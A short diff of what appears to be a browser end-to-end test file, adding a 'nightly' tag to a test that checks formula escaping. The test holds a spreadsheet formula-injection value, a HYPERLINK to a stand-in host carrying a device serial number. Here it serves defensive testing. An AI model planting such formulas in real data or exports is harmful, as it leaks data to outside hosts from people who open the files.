@@ -106,7 +106,7 @@ test('follows search and filters, and records one event', nightly, async ({ page
   expect(mine[0]?.description.agentName).toBe('Alex Morgan');
 });
 
-test('escapes formulas', async ({ page, api }) => {
+test('escapes formulas', nightly, async ({ page, api }) => {
   const call = await api('admin');
   const device = await newDevice(call);
   const name = `=HYPERLINK("http://x.example/?${device.serial_number}", "win")`;
